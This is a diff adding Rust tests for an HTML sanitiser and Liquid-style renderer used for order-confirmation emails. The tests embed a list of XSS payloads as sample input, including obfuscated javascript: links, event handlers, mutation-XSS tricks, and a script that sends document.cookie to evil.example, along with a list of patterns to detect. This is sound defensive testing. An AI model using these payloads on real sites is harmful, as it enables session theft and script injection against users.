@@ -241,9 +241,8 @@ fn bad_filter_arguments_and_runtime_filter_errors() {
     assert_eq!(e.line, Some(3));
     assert!(e.message.contains("Whole number expected"), "{}", e.message);
 
-    let e = render_err("{{ payload.orderId.code }}");
-    assert_eq!(e.kind, RenderErrorKind::Other);
-    assert!(e.message.contains("payload.orderId"), "{}", e.message);
+    // A field of text renders empty (as in LiquidJS), it is not an error.
+    assert_eq!(render("[{{ payload.orderId.code }}]"), "[]");
 }
 
 #[test]
@@ -460,4 +459,197 @@ fn scanner_survives_odd_input() {
         variables_used("{{ -1 | plus: payload.n }}"),
         vec![var(&["payload", "n"])]
     );
+}
+
+/// A realistic order confirmation, written as ammonia serialises HTML (double-quoted attributes,
+/// `&amp;` and `&nbsp;` as the only entities), so that "unchanged" can be checked byte for byte.
+const ORDER_EMAIL: &str = include_str!("testdata/order-confirmation.html");
+
+#[test]
+fn sanitizing_keeps_a_legitimate_email_unchanged() {
+    // Nothing to remove: returned as it is, without running ammonia.
+    let out = sanitize_html(ORDER_EMAIL);
+    assert!(matches!(out, std::borrow::Cow::Borrowed(_)));
+    assert_eq!(out, ORDER_EMAIL);
+    // Ammonia's own pass over it changes nothing either.
+    let spaced = ORDER_EMAIL.replace("<body style=", "<!-- x --><body style=");
+    let cleaned = sanitize_html(&spaced);
+    assert!(matches!(cleaned, std::borrow::Cow::Owned(_)));
+    assert_eq!(cleaned, ORDER_EMAIL);
+    // The same holds for a fragment (no document skeleton).
+    let fragment = "<p style=\"color:#333\">Hi <b>Ada</b>, <a href=\"https://x.example/o?a=1&amp;b=2\" \
+                    target=\"_blank\">your order</a><br><img src=\"cid:logo\" alt=\"Logo\" width=\"40\"></p>";
+    assert_eq!(sanitize_html(fragment), fragment);
+}
+
+#[test]
+fn sanitizing_removes_only_the_dangerous_parts() {
+    let dirty = ORDER_EMAIL
+        .replace("<html lang=\"en\"", "<html onclick=\"steal()\" lang=\"en\"")
+        .replace(
+            "<title>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><script>alert(1)</script><title>",
+        )
+        .replace("<body style=", "<body onload=\"alert(2)\" style=")
+        .replace(
+            "<h1 style=",
+            "<script>document.location='https://evil.example/?c='+document.cookie</script>\
+             <iframe src=\"https://evil.example\"></iframe><!-- tracking --><h1 onmouseover=\"x()\" style=",
+        )
+        .replace("alt=\"Desk lamp\"", "alt=\"Desk lamp\" onerror=\"alert(3)\"")
+        .replace(
+            "<a href=\"mailto:",
+            "<a href=\"javascript:alert(4)\">click</a><a href=\"mailto:",
+        )
+        .replace(
+            "<strong>Total</strong>",
+            "<strong>Total</strong><object data=\"x.swf\"></object><form action=\"https://evil.example\"><input name=\"pw\"></form>",
+        );
+    assert_ne!(dirty, ORDER_EMAIL);
+    // A refresh `<meta>` keeps only its `content`, which does nothing without `http-equiv`.
+    let clean = ORDER_EMAIL
+        .replace("<a href=\"mailto:", "<a>click</a><a href=\"mailto:")
+        .replace(
+            "<title>",
+            "<meta content=\"0;url=https://evil.example\"><title>",
+        );
+    assert_eq!(sanitize_html(&dirty), clean);
+}
+
+#[test]
+fn sanitizing_payload_values() {
+    assert_eq!(sanitize_html("<script>alert(1)</script>"), "");
+    assert_eq!(
+        sanitize_html("Hello <script>alert(1)</script><b>Ada</b>"),
+        "Hello <b>Ada</b>"
+    );
+    assert_eq!(
+        sanitize_html("<img src=x onerror=alert(1)>"),
+        "<img src=\"x\">"
+    );
+    // Text without markup is returned as it is (no `&amp;` for a plain `&`).
+    assert!(matches!(
+        sanitize_html("Tom & Jerry > 3"),
+        std::borrow::Cow::Borrowed("Tom & Jerry > 3")
+    ));
+    // A document whose skeleton is broken is cleaned as a fragment.
+    assert_eq!(
+        sanitize_html("<body onload=x><p>Hi</p><script>y()</script>"),
+        "<p>Hi</p>"
+    );
+}
+
+#[test]
+fn plain_text_of_an_email() {
+    assert_eq!(
+        html_to_text(ORDER_EMAIL),
+        "Thanks for your order, Ada!\n\n\
+         Order A-1042 · placed Nov 22, 2026\n\n\
+         Item Qty Price\n\
+         Desk lamp\n\
+         SKU LMP-204 · Walnut 1 EUR 41.8\n\
+         Total EUR 41.80\n\n\
+         View your order (https://shop.example.com/orders/A-1042?utm_source=email&utm_medium=order)\n\n\
+         Questions? Write to support@shop.example.com.\n\n\
+         Example Shop & Co · 1 Market Street · San Francisco"
+    );
+    assert_eq!(
+        html_to_text("<ul><li>one</li><li>two &lt;3</li></ul><p>a<br>b<script>x()</script></p>"),
+        "- one\n- two <3\n\na\nb"
+    );
+    assert_eq!(html_to_text("plain & simple"), "plain & simple");
+}
+
+#[test]
+fn fields_of_text_and_numbers_render_empty() {
+    let vars = json!({
+        "actor": "u2",
+        "payload": {"n": 3, "flag": true, "name": "Ada", "items": ["a", "b"], "list": [{"x": 1}, "plain"]}
+    });
+    let r = Renderer::new();
+    let out = |t: &str| {
+        r.render_str(t, &vars)
+            .unwrap_or_else(|e| panic!("{t:?}: {e}"))
+    };
+    assert_eq!(out("[{{ actor.firstName }}]"), "[]");
+    assert_eq!(
+        out("[{{ actor.firstName | default: 'someone' }}]"),
+        "[someone]"
+    );
+    assert_eq!(
+        out("[{{ payload.n.x }}][{{ payload.flag.y.z }}][{{ payload.name }}]"),
+        "[][][Ada]"
+    );
+    assert_eq!(out("{{ payload.name.size }}"), "3");
+    assert_eq!(
+        out("{% for i in payload.items %}[{{ i.label }}]{% endfor %}"),
+        "[][]"
+    );
+    assert_eq!(
+        out("{% for i in payload.list %}[{{ i.x }}]{% endfor %}"),
+        "[1][]"
+    );
+    assert_eq!(
+        out("{% if actor.firstName %}yes{% else %}no{% endif %}"),
+        "no"
+    );
+}
+
+#[test]
+fn markup_the_quick_check_does_not_admit_goes_through_ammonia() {
+    let dangerous = [
+        "<script>alert(1)</script>",
+        "<SCRIPT>alert(1)</SCRIPT>",
+        "<scr<script>ipt>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" ONERROR=\"alert(1)\">",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href=\" javascript:alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript&#58;alert(1)\">x</a>",
+        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
+        "<a href=\"javascript&#58;alert(1)\">x</a>",
+        "<a href=\"javascript&colon;alert(1)\">x</a>",
+        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+        "<img src=\"vbscript:msgbox(1)\">",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><script>alert(1)</script></mtext></math>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
+        "<!-- <script>alert(1)</script> -->",
+        "<p>a</p><!--><script>alert(1)</script>-->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<form action=\"https://evil.example\"><input name=\"pw\"></form>",
+        "<object data=\"x.swf\"></object>",
+        "<embed src=\"x.swf\">",
+        "<base href=\"https://evil.example/\">",
+        "<p title=\"x\"onclick=\"alert(1)\">x</p>",
+        "<p/onclick=alert(1)>x</p>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<style></style><script>alert(1)</script>",
+        "<title></title><img src=x onerror=alert(1)>",
+        "<p>1 < 2</p>",
+    ];
+    for html in dangerous {
+        let out = sanitize_html(html);
+        assert!(
+            matches!(out, std::borrow::Cow::Owned(_)),
+            "{html:?} was admitted unchanged"
+        );
+        let lower = out.to_ascii_lowercase();
+        for needle in [
+            "<script",
+            "onerror",
+            "onclick",
+            "javascript:",
+            "<iframe",
+            "vbscript",
+            "refresh",
+            "<svg",
+        ] {
+            assert!(!lower.contains(needle), "{html:?} -> {out:?}");
+        }
+    }
 }
